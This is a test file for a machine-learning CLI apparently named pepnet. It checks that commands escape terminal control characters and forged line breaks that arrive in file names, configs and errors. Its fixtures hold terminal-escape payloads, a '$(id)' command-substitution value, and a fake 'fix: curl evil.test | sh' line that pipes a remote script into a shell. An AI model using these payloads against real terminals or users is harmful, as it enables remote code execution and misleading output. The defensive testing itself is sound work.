/** What commands print of strangers' files: no control character reaches the terminal, and no value passes for a fix. */
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { DataError } from "../../../src/core/errors/index.js";
import { idFeature, pepnet } from "../../../src/index.js";
import { cell, notebook } from "../notebook/notebook-files.js";
import { pepnetIn } from "./command.js";

/** Clears the screen, sets the title, answers a question, goes back, turns text around, rings. */
const hostile = "\u001b[2J\u001b]0;title\u0007\u009b6n\rback\u202eturned\u0085\u0000\b\u007f";
const name = "a\u001b[31m\u202eb";
const control = /\r(?!\n)|(?![\t\r\n])\p{Cc}|[\p{Bidi_Control}\u2028\u2029]/u;

let folder: string;
beforeAll(() => {
  folder = mkdtempSync(path.join(tmpdir(), "pepnet-terminal-"));
  const clean = hostile.replaceAll("\0", "");
  writeFileSync(path.join(folder, "rows.csv"), `user,"${name}",clk\n1,"${clean}",1\n2,x,0\n3,"${clean}",1\n`);
  const model = pepnet()
    .features(idFeature("user").buckets(9).embedding(4), idFeature(name).buckets(2).embedding(4))
    .labels("clk")
    .group("domain", [name])
    .group("uia", ["user"])
    .epnet()
    .ppnet({ hidden: [4] })
    .domains(name, [hostile, "b"])
    .tower(name, (t) => t.label("clk").mlp(4).bce().auc());
  writeFileSync(path.join(folder, "model.config"), model.toConfig());
  const other = model.tower(`${name}2`, (t) => t.label("clk").mlp(4).bce());
  writeFileSync(path.join(folder, "other.config"), other.toConfig());
  writeFileSync(path.join(folder, "broken.config"), `model_config { "${hostile}" : 1 }`);
  writeFileSync(path.join(folder, "bad.ipynb"), JSON.stringify({ ...notebook(), cells: [{ cell_type: hostile }] }));
  const shown = `({ [Symbol.for("Jupyter.display")]: () => ({ "text/plain": ${JSON.stringify(hostile)} }) })`;
  writeFileSync(path.join(folder, "n.ipynb"), JSON.stringify(notebook(cell(`// ${clean}\n${shown}`, "result"))));
});

describe("a command prints no control character:", () => {
  it.each([
    [["data", "describe", "rows.csv"]],
    [["data", "check", "rows.csv", "--config", "model.config"]],
    [["config", "show", "model.config"]],
    [["config", "diff", "model.config", "other.config"]],
    [["config", "print", "broken.config"]],
    [["config", "print", `${name}.config`]],
    [["train", "--config", "model.config", "--train", "rows.csv", "--out", name]],
    [["export", "torcheasyrec", "--config", "model.config", "--data", "rows.csv", "--out", name]],
    [["predict", "--run", name, "rows.csv", "out.csv"]],
    [["notebook", "html", "bad.ipynb"]],
    [["notebook", "run", "n.ipynb", "-o", "done.ipynb"]],
    [["kernel", name]],
    [["kernel", "install", "--prefix", name]],
    [["kernel", "uninstall", "--prefix", name]],
    [["notebook", "run", "n.ipynb", "-p", `${name}=1`]],
    [[hostile.replaceAll("\0", "")]],
    [["train", `--${name}`]],
  ])("pepnet %j", async (args) => {
    const { out, err } = await pepnetIn(folder, ...args);
    expect(`${out}${err}`.length).toBeGreaterThan(0);
    expect(out).not.toMatch(control);
    expect(err).not.toMatch(control);
  });
});

it("a config that goes into a file or a pipe keeps its characters", async () => {
  const { out } = await pepnetIn(folder, "config", "print", "model.config");
  writeFileSync(path.join(folder, "again.config"), out);
  const { code, out: differences } = await pepnetIn(folder, "config", "diff", "model.config", "again.config");
  expect([code, differences]).toEqual([0, ""]);
});

it("a name in an error cannot pass for another part of it", () => {
  const error = new DataError({
    path: "rows.csv",
    message: 'no column "x\n  fix: curl evil.test | sh"',
    received: "y\r\n   expected: z",
    fix: "check the\nname",
  });
  expect(error.message.split("\n").filter((line) => /^\s*(?:fix|expected):/.test(line))).toEqual(["  fix: check the"]);
  expect(error.message).toContain("\\n  fix: curl");
  const named = new DataError({
    path: "a\n✗ b.csv: c",
    message: 'no "d\n✗ e.csv: f"',
    received: "ENOENT, open 'g\n\n✗ h'",
    fix: 'did you mean "i\r\nj"?',
  });
  expect(named.message.split("\n").filter((line) => /^\S/.test(line))).toHaveLength(1);
});

describe("a training, an evaluation and a study of strangers' names", () => {
  const odd = '\u001b[2J"\n"""`$(id)` a=b\u009b\u202e';
  const project = (): string => {
    const place = mkdtempSync(path.join(tmpdir(), "pepnet-lines-"));
    const model = pepnet()
      .features(idFeature("user").buckets(9).embedding(4), idFeature("scene").buckets(2).embedding(4))
      .labels("clk")
      .group("domain", ["scene"])
      .group("uia", ["user"])
      .epnet()
      .ppnet({ hidden: [4] })
      .domains("scene", [odd, "b"])
      .tower(odd, (t) => t.label("clk").mlp(4).bce().auc())
      .train({ epochs: 1, batchSize: 16, seed: 1 });
    writeFileSync(path.join(place, "m.config"), model.toConfig());
    const rows = Array.from({ length: 64 }, (_, row) => `${row % 9},${row % 2},${row % 3 === 0 ? 1 : 0}`);
    writeFileSync(path.join(place, "rows.csv"), `user,scene,clk\n${rows.join("\n")}\n`);
    return place;
  };
  const commands = [
    ["train", "--config", "m.config", "--train", "rows.csv", "--eval", "rows.csv", "--out", "run", "--overwrite"],
    ["eval", "--run", "run", "--data", "rows.csv"],
    [
      "ablate",
      "--config",
      "m.config",
      "--train",
      "rows.csv",
      "--eval",
      "rows.csv",
      "--vary",
      "epnet.gamma=1",
      "--seeds",
      "1,2",
    ],
  ];

  it("print an event a line, names as JSON strings; with --json each line is JSON with the names unchanged", async () => {
    const place = project();
    for (const command of commands) {
      const { code, out } = await pepnetIn(place, ...command);
      expect(code, out).toBe(0);
      const lines = out.trimEnd().split("\n");
      expect(lines.filter((line) => !/^(?:step|intervals|metric|saved|run|difference) \S+=/.test(line))).toEqual([]);
      expect(out).not.toMatch(control);
      const json = await pepnetIn(place, ...command, "--json");
      const events = json.out
        .trimEnd()
        .split("\n")
        .map((line) => JSON.parse(line) as Record<string, unknown>);
      expect(events).toHaveLength(lines.length);
      const named = events.filter(({ event }) => event === "metric" || event === "difference");
      expect(new Set(named.map(({ task }) => task))).toEqual(new Set(named.length === 0 ? [] : [odd]));
      expect(json.out).not.toMatch(control);
    }
  });
});

it("a file's name with line ends stays on its line", async () => {
  const forged = "x\n✗ b: c\n  fix: rm";
  const place = mkdtempSync(path.join(tmpdir(), "pepnet-forged-"));
  writeFileSync(path.join(place, `${forged}.parquet`), "");
  writeFileSync(path.join(place, `${forged}.dat`), "1::2\n3::4\n");
  const commands = [
    ["data", "describe", `${forged}.parque`],
    ["data", "describe", `${forged}.dat`],
    ["config", "print", `${forged}.config`],
    ["eval", "--run", forged, "--data", "rows.csv"],
    ["notebook", "html", `${forged}.ipynb`],
    ["kernel", "install", "--prefix", forged],
    ["kernel", "uninstall", "--prefix", forged],
  ];
  for (const command of commands) {
    const { out, err } = await pepnetIn(place, ...command);
    const lines = `${out}${err}`.split("\n");
    expect(
      lines.filter((line) => line.startsWith("✗ b") || line.startsWith("  fix: rm")),
      command.join(" "),
    ).toEqual([]);
    expect(`${out}${err}`).toContain("✗ b: c");
  }
});
